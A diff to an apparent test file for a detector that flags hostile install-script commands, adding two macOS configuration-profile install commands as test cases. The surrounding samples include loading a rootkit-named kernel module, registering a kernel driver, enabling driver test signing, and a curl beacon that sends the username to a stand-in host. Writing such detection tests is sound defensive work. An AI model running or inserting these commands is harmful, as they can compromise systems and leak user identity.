@@ -47,6 +47,8 @@ def rules(art: Artifact) -> set[str]:
     ("insmod ./build/diamorphine.ko 2>/dev/null", "install-script/kernel-driver"),
     ("sc create perfctr type= kernel start= auto binPath= C:\\Windows\\System32\\drivers\\perfctr.sys", "install-script/kernel-driver"),
     ("bcdedit /set testsigning on", "install-script/kernel-driver"),
+    ("profiles install -type configuration -path ./assets/defaults.mobileconfig", "install-script/config-profile"),
+    ("open ./assets/search.mobileconfig", "install-script/config-profile"),
     ("curl -d u=$(whoami) https://hooks.example/c", "install-script/beacon"),
 ])
 def test_attack_patterns_are_flagged(command, rule):
